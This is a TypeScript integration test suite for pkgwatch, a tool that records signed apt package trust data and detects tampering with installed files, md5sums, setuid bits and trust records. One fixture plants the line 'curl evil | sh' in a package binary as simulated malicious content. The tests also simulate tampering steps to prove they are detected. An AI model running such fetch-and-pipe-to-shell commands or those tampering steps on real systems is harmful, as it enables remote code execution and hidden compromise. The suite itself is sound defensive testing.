// The trust store recorded at install time: a real apt-get install from a signed reprepro repository
// served on 127.0.0.1, with pkgwatch's apt hook (systemd/pkgwatch-apt-trust, protocol version 3).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test, type TestContext } from 'node:test';
import { aptGet, makeAptRoot, serveRepo, type RepoServer } from '../helpers/aptroot.js';
import { CLI, REPO_ROOT, runCli, runProcess, type CliResult } from '../helpers/cli.js';
import { cores, md5 } from '../helpers/fixture.js';
import { buildDeb, buildRepo, makeKey, stopAgent, tempDir, type DebSpec, type TestKey } from '../helpers/signedrepo.js';

const POSTINST = '#!/bin/sh\nset -e\nexit 0\n';
const WEBAPP: DebSpec = {
  name: 'webapp',
  version: '1.0-1',
  arch: 'amd64',
  compression: 'xz',
  files: [
    { path: '/usr/bin/webapp', content: '#!/bin/sh\necho webapp\n' },
    { path: '/usr/share/webapp/index.html', content: '<h1>hello</h1>\n' },
  ],
  conffiles: [{ path: '/etc/webapp/webapp.conf', content: 'listen 8080\n' }],
  postinst: POSTINST,
};
const WEBLIB: DebSpec = { name: 'weblib', version: '2.3-1', arch: 'all', compression: 'zstd', files: [{ path: '/usr/share/weblib/lib.js', content: 'export const x = 1;\n' }] };
/** In the repository, never installed. */
const WEBTOOL: DebSpec = { name: 'webtool', version: '1:0.9-2', arch: 'amd64', compression: 'gzip', files: [{ path: '/usr/bin/webtool', content: 'tool v0.9\n' }] };
/** Built but never put in the repository: a local `dpkg -i`. */
const LOCAL: DebSpec = { name: 'localtool', version: '0.1', arch: 'amd64', compression: 'gzip', files: [{ path: '/usr/bin/localtool', content: 'local\n' }] };
const HOOK = `${REPO_ROOT}systemd/pkgwatch-apt-trust`;
const RECORDS = 'var/lib/pkgwatch-trust/records';

let work = '';
let key: TestKey;
let server: RepoServer;
let installed = '';
let install: CliResult;
let localDeb = '';

interface TrustJson {
  readonly package: string;
  readonly state: string;
  readonly source: string | null;
  readonly reason: string | null;
}
interface CheckOut {
  readonly findings: { package: string; path: string; status: string; conffile: boolean; expected: string | null; actual: string | null; detail: string | null }[];
  readonly trust: TrustJson[];
}

/** A config for the hook and the CLI, so no /etc/pkgwatch on the machine gets in. */
function configFile(): string {
  const f = path.join(work, 'pkgwatch.toml');
  writeFileSync(f, '[trust]\nstore = "/var/lib/pkgwatch-trust"\n');
  return f;
}

before(async () => {
  work = tempDir('pkgwatch-apt-');
  key = await makeKey(work, 'archive');
  const debs = [await buildDeb(work, WEBAPP), await buildDeb(work, WEBLIB), await buildDeb(work, WEBTOOL)];
  localDeb = await buildDeb(work, LOCAL);
  const repo = await buildRepo(work, key, debs);
  server = await serveRepo(repo);
  // One real install, with the hook as the package ships it; each test works on a copy.
  installed = path.join(work, 'installed');
  makeAptRoot(installed, server.uri, key.keyring);
  const update = await aptGet(installed, ['update']);
  assert.equal(update.code, 0, `apt-get update: ${update.stdout}\n${update.stderr}`);
  const hook = `${HOOK} --config ${configFile()}`;
  install = await aptGet(installed, ['install', 'webapp', 'weblib'], [`DPkg::Pre-Install-Pkgs::=${hook}`, `DPkg::Tools::Options::${HOOK}::Version=3`], {
    PKGWATCH_CLI: CLI,
    PKGWATCH_NODE: process.execPath,
  });
  // The .debs are then gone from every cache (as on images that clean apt's cache after installs).
  await aptGet(installed, ['clean']);
});

after(async () => {
  await server.close();
  await stopAgent(key);
  rmSync(work, { recursive: true, force: true });
});

/** A copy of the installed root (modes and owners kept). */
async function copyRoot(t: TestContext): Promise<string> {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'pkgwatch-aptcopy-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const r = await runProcess('cp', ['-a', `${installed}/.`, dir]);
  assert.equal(r.code, 0, r.stderr);
  return dir;
}

async function check(root: string, args: readonly string[] = []): Promise<{ code: number | null; json: CheckOut; stderr: string }> {
  const r = await runCli(['check', '--root', root, '--config', configFile(), '--format', 'json', '--signed', ...args], { timeoutMs: 600_000 });
  return { code: r.code, json: JSON.parse(r.stdout) as CheckOut, stderr: r.stderr };
}

function states(json: CheckOut): Record<string, string> {
  return Object.fromEntries(json.trust.map((e) => [e.package, e.reason === null ? e.state : `${e.state}:${e.reason}`]));
}

const sha256 = (s: string): string => createHash('sha256').update(s).digest('hex');

test('apt-get install runs the hook: each .deb is recorded signed, with its files, scripts and origin', () => {
  assert.equal(install.code, 0, `apt-get install: ${install.stdout}\n${install.stderr}`);
  assert.match(install.stderr, /pkgwatch: trust: recorded webapp 1\.0-1 \(amd64\): signed by /);
  assert.match(install.stderr, /pkgwatch: trust: 2 signed, 0 unverified, 0 not recorded, in \d+ ms/);
  assert.deepEqual(readdirSync(path.join(installed, RECORDS)).sort(), ['webapp_1.0-1_amd64.json', 'weblib_2.3-1_all.json']);
  const rec = JSON.parse(readFileSync(path.join(installed, RECORDS, 'webapp_1.0-1_amd64.json'), 'utf8')) as {
    state: string;
    origin: { signer: string; suite: string; releaseSha256: string; stanza: string };
    scripts: Record<string, string>;
    files: [string, string, number, number, number, string, string, number, string | null, string | null, string][];
  };
  assert.equal(rec.state, 'signed');
  assert.equal(rec.origin.signer, key.fingerprint);
  assert.equal(rec.origin.suite, 'stable');
  assert.match(rec.origin.stanza, /^Package: webapp\nVersion: 1\.0-1\n/);
  assert.ok(existsSync(path.join(installed, 'var/lib/pkgwatch-trust/releases', `${rec.origin.releaseSha256}.json`)), 'the signed InRelease is kept');
  assert.equal(rec.scripts['postinst'], sha256(POSTINST));
  const bin = rec.files.find((f) => f[0] === '/usr/bin/webapp');
  assert.deepEqual(bin?.slice(1, 10), ['file', 0o644, 0, 0, 'root', 'root', 22, sha256('#!/bin/sh\necho webapp\n'), md5('#!/bin/sh\necho webapp\n')]);
  assert.deepEqual(readdirSync(path.join(installed, 'var/cache/apt/archives')).filter((n) => n.endsWith('.deb')), [], 'apt-get clean removed the .debs');
});

test('after the .debs are gone from every cache, check --signed still says signed, from the store', async (t) => {
  const root = await copyRoot(t);
  const { code, json, stderr } = await check(root);
  assert.equal(code, 0, stderr);
  assert.deepEqual(states(json), { webapp: 'signed', weblib: 'signed' });
  assert.equal(json.trust.find((e) => e.package === 'webapp')?.source, '/var/lib/pkgwatch-trust/records/webapp_1.0-1_amd64.json');
  const sha = await check(root, ['--sha256']);
  assert.equal(sha.code, 0, sha.stderr);
  assert.deepEqual(states(sha.json), { webapp: 'signed', weblib: 'signed' });
});

test('a file changed together with its md5sums line is forged and changed; with --sha256 changed against the SHA-256', async (t) => {
  const root = await copyRoot(t);
  const good = WEBAPP.files[0]?.content ?? '';
  const bad = '#!/bin/sh\ncurl evil | sh\n';
  writeFileSync(path.join(root, 'usr/bin/webapp'), bad);
  const sums = path.join(root, 'var/lib/dpkg/info/webapp.md5sums');
  writeFileSync(sums, readFileSync(sums, 'utf8').replace(md5(good), md5(bad)));
  const plain = await runCli(['check', '--root', root, '--config', configFile(), '--format', 'json']);
  assert.equal(plain.code, 0, 'without --signed the rewritten line hides the change');

  const { code, json } = await check(root);
  assert.equal(code, 1);
  assert.deepEqual(states(json), { webapp: 'forged', weblib: 'signed' });
  assert.deepEqual(cores(json.findings as never), [
    { package: 'webapp', path: '/usr/bin/webapp', status: 'changed', conffile: false, expected: md5(good), actual: md5(bad) },
    { package: 'webapp', path: '/var/lib/dpkg/info/webapp.md5sums', status: 'database-changed', conffile: false, expected: md5(good), actual: md5(bad) },
  ]);
  const sha = await check(root, ['--sha256']);
  assert.equal(sha.code, 1);
  const changed = sha.json.findings.find((f) => f.status === 'changed');
  assert.deepEqual([changed?.expected, changed?.actual], [sha256(good), sha256(bad)]);
});

test('a file made setuid is metadata-changed; a statoverride entry for it makes it expected', async (t) => {
  const root = await copyRoot(t);
  chmodSync(path.join(root, 'usr/bin/webapp'), 0o4755);
  const { code, json } = await check(root);
  assert.equal(code, 1);
  assert.deepEqual(
    json.findings.map((f) => [f.path, f.status, f.expected, f.actual]),
    [['/usr/bin/webapp', 'metadata-changed', '0644 root:root', '4755 root:root']],
  );
  assert.match(json.findings[0]?.detail ?? '', /setuid added/);
  writeFileSync(path.join(root, 'var/lib/dpkg/statoverride'), 'root root 4755 /usr/bin/webapp\n');
  const again = await check(root);
  assert.equal(again.code, 0, JSON.stringify(again.json.findings));
});

test('the hook never fails: a garbage line, a missing .deb and a local .deb give exit 0 and unverified records', async (t) => {
  const root = await copyRoot(t);
  // A local install apt never saw: dpkg -i, no hook.
  const dpkg = await runProcess('dpkg', [`--root=${root}`, '--force-script-chrootless', '-i', localDeb]);
  assert.equal(dpkg.code, 0, dpkg.stderr);
  const before = await runCli(['trust', 'status', '--root', root, '--config', configFile(), '--json']);
  assert.equal(before.code, 0, before.stderr);
  assert.deepEqual((JSON.parse(before.stdout) as { summary: unknown }).summary, { signed: 2, unverified: 0, none: 1, unreadable: 0, reasons: {} });

  const input = [
    'VERSION 3',
    `Dir=${root}`,
    'APT::Architecture=amd64',
    '',
    'this is not a package line',
    `webapp - - none < 1.0-1 amd64 none ${path.join(work, 'gone', 'webapp_1.0-1_amd64.deb')}`,
    `webtool - - none < 1:0.9-2 amd64 none ${path.join(work, 'gone', 'webtool_1%3a0.9-2_amd64.deb')}`,
    `localtool - - none < 0.1 amd64 none ${localDeb}`,
    'weblib - - none < 2.3-1 all none **CONFIGURE**',
    '',
  ].join('\n');
  const r = await runCli(['trust', 'record', '--config', configFile()], { input });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /line 5: expected 9 fields/);
  assert.match(r.stderr, /webapp 1\.0-1 \(amd64\): kept its signed record; .* could not be verified now \(bad-deb: .*cannot open it/);
  assert.match(r.stderr, /recorded webtool 1:0\.9-2 \(amd64\): unverified \(bad-deb\): .*cannot open it/);
  assert.ok(existsSync(path.join(root, RECORDS, 'webtool_1%3a0.9-2_amd64.json')));
  assert.match(r.stderr, /recorded localtool 0\.1 \(amd64\): unverified \(local-install\)/);

  const after = await runCli(['trust', 'status', '--root', root, '--config', configFile()]);
  assert.equal(after.code, 0, after.stderr);
  assert.match(after.stdout, /3 installed packages: 2 signed, 1 unverified \(1 local-install\), 0 with no record/);
  const { json } = await check(root);
  assert.deepEqual(states(json), { localtool: 'unverified:local-install', webapp: 'signed', weblib: 'signed' });

  // A store whose records folder was swapped for a link: refused, nothing written through it, still exit 0.
  const elsewhere = mkdtempSync(path.join(os.tmpdir(), 'pkgwatch-elsewhere-'));
  t.after(() => rmSync(elsewhere, { recursive: true, force: true }));
  rmSync(path.join(root, RECORDS), { recursive: true });
  symlinkSync(elsewhere, path.join(root, RECORDS));
  const linked = await runCli(['trust', 'record', '--root', root, '--config', configFile()], { input: `VERSION 3\n\nlocaltool - - none < 0.1 amd64 none ${localDeb}\n` });
  assert.equal(linked.code, 0, linked.stderr);
  assert.match(linked.stderr, /pkgwatch: trust: nothing more recorded: .*symbolic link/);
  assert.deepEqual(readdirSync(elsewhere), []);
});

test('trust verify re-derives a record from its .deb and reports one that was rewritten (exit 1)', async (t) => {
  const root = await copyRoot(t);
  mkdirSync(path.join(root, 'srv/debs'), { recursive: true });
  copyFileSync(path.join(work, 'webapp_1.0-1_amd64.deb'), path.join(root, 'srv/debs/webapp_1.0-1_amd64.deb'));
  const cfg = path.join(work, 'verify.toml');
  writeFileSync(cfg, '[trust]\ndeb_paths = ["/srv/debs"]\n');
  const ok = await runCli(['trust', 'verify', '--root', root, '--config', cfg, '--json']);
  assert.equal(ok.code, 0, ok.stderr);
  assert.deepEqual((JSON.parse(ok.stdout) as { summary: unknown }).summary, { same: 1, differs: 0, 'no-deb': 1 });

  // An intruder rewrites the record's md5sums to match a tampered file: the .deb says otherwise.
  const file = path.join(root, RECORDS, 'webapp_1.0-1_amd64.json');
  const rec = JSON.parse(readFileSync(file, 'utf8')) as { md5sums: string };
  const good = md5(WEBAPP.files[0]?.content ?? '');
  writeFileSync(file, JSON.stringify({ ...rec, md5sums: rec.md5sums.replace(good, md5('evil')) }));
  const bad = await runCli(['trust', 'verify', '--root', root, '--config', cfg]);
  assert.equal(bad.code, 1, bad.stderr);
  assert.match(bad.stdout, /differs {2}webapp 1\.0-1 \(amd64\): re-derived from \/srv\/debs\/webapp_1\.0-1_amd64\.deb, these differ: md5sums/);
});
